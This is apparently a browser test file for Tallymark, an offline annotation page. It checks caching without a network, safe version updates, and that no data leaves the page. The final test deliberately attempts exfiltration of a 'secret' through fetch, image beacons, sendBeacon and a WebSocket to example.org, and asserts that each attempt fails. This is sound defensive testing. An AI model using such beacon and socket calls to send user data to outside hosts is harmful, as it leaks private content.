// Without a network: the page is kept by the browser, newer versions are offered, and
// no byte leaves it.
import assert from "node:assert/strict";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { addWorker } from "../../scripts/offline.mjs";
import { accessible, annotate, blank, saved, until } from "./page.js";
import { dist, serve } from "./serve.js";
import { browser } from "./stage.js";

const TEXT = "Karsa news\n\nAt least 14 people were killed in Aleppo on 3 March 2031.";

const folders = [];
after(() => folders.forEach((folder) => rmSync(folder, { recursive: true })));

/** A copy of the page of its own, and a host for it. */
async function hosted() {
  const folder = mkdtempSync(join(tmpdir(), "page-"));
  folders.push(folder);
  cpSync(dist, folder, { recursive: true });
  const host = await serve(folder);
  after(host.stop);
  return { folder, host };
}

/** Opens the page and waits until the browser keeps it. */
async function kept(url) {
  const { context, page, faults } = await blank(browser, { serviceWorkers: "allow" });
  await page.goto(url);
  await until(page, () => navigator.serviceWorker.controller !== null, true);
  return { context, page, faults };
}

/** Puts another version of the page up. */
function change(folder, words) {
  const page = join(folder, "index.html");
  writeFileSync(page, readFileSync(page, "utf8").replace("<title>Tallymark", `<title>${words} Tallymark`));
  addWorker(folder);
}

const marks = (page) => page.locator("mark").count();

test("the page opens and reads without a network", async () => {
  const { host } = await hosted();
  const { context, page, faults } = await kept(host.url);
  host.stop();
  await context.setOffline(true);
  await page.goto(`${host.url}?lang=vi`);
  await page.getByRole("textbox", { name: "Nội dung bài viết" }).waitFor();
  await page.goto(host.url);
  await annotate(page, TEXT);
  await page.locator("mark", { hasText: "Aleppo" }).waitFor();
  await saved(page);
  await page.reload();
  await page.locator("mark", { hasText: "Aleppo" }).waitFor();
  assert.deepEqual(faults, []);
  await context.close();
});

test("a newer version is offered, and no work is lost on the way", async () => {
  const { folder, host } = await hosted();
  const { context, page } = await kept(host.url);
  await annotate(page, TEXT);
  await page.locator("mark", { hasText: "Aleppo" }).click();
  await page.keyboard.press("a");
  await saved(page);
  change(folder, "Newer");
  await page.reload();
  assert.equal(await page.title(), "Tallymark");
  const notice = page.locator(".notice", { hasText: "A new version of Tallymark" });
  await notice.waitFor();
  await accessible(page, "newer version");
  await page.getByLabel("Source").fill("Radio Karsa");
  await Promise.all([page.waitForEvent("load"), notice.getByRole("button", { name: "Use the new version" }).click()]);
  await page.locator("mark", { hasText: "Aleppo" }).waitFor();
  assert.equal(await page.title(), "Newer Tallymark");
  assert.equal(await page.getByLabel("Source").inputValue(), "Radio Karsa");
  assert.equal((await page.evaluate(() => caches.keys())).length, 1);
  await context.close();
});

test("a version that is not whole never takes over", async () => {
  const { folder, host } = await hosted();
  const { context, page } = await kept(host.url);
  change(folder, "Broken");
  writeFileSync(join(folder, "icon.svg"), "<svg/>");
  await page.reload();
  await page.evaluate(() => navigator.serviceWorker.ready.then((registration) => registration.update()).then(() => {}, () => {}));
  // It may have failed before anyone could listen to it: what it came to is looked at.
  const state = () => navigator.serviceWorker.ready.then(({ installing, waiting }) => installing?.state === "installing" ? "installing" : waiting?.state ?? "none");
  await until(page, state, "none");
  assert.equal(await page.locator(".notice").count(), 0);
  await page.reload();
  assert.equal(await page.title(), "Tallymark");
  await annotate(page, TEXT);
  await page.locator("mark", { hasText: "Aleppo" }).waitFor();
  assert.ok((await marks(page)) > 2);
  await context.close();
});

test("no byte leaves the page, and Help shows it", async () => {
  const { host } = await hosted();
  const { context, page } = await kept(host.url);
  await annotate(page, TEXT);
  await page.locator("mark", { hasText: "Aleppo" }).waitFor();
  const before = host.asked.length;
  await page.keyboard.press("?");
  const help = page.getByRole("dialog");
  await help.getByText("opens without a network too").waitFor();
  await help.getByRole("button", { name: "Try to send a byte" }).click();
  for (const host of ["the address that Tallymark came from", "example.org"])
    await help.getByRole("listitem").filter({ hasText: host }).getByText("nothing was sent").waitFor();
  await accessible(page, "self-test");
  // What a program in the page could try beside that.
  const tried = await page.evaluate(async () => {
    const address = `${location.href}?text=secret`;
    const image = (src) => new Promise((done) => Object.assign(new Image(), { src, onload: () => done("sent"), onerror: () => done("forbidden") }));
    const attempts = [
      fetch(address).then(() => "sent", () => "forbidden"),
      image(address),
      image("https://example.org/?text=secret"),
      Promise.resolve(navigator.sendBeacon(address, "secret")).then(() => "queued"),
      new Promise((done) => Object.assign(new WebSocket("wss://example.org/"), { onopen: () => done("sent"), onerror: () => done("forbidden") })).catch(() => "forbidden"),
    ];
    return Promise.all(attempts);
  });
  assert.deepEqual(tried.filter((outcome) => outcome === "sent"), []);
  assert.deepEqual(host.asked.slice(before), []);
  await context.close();
});
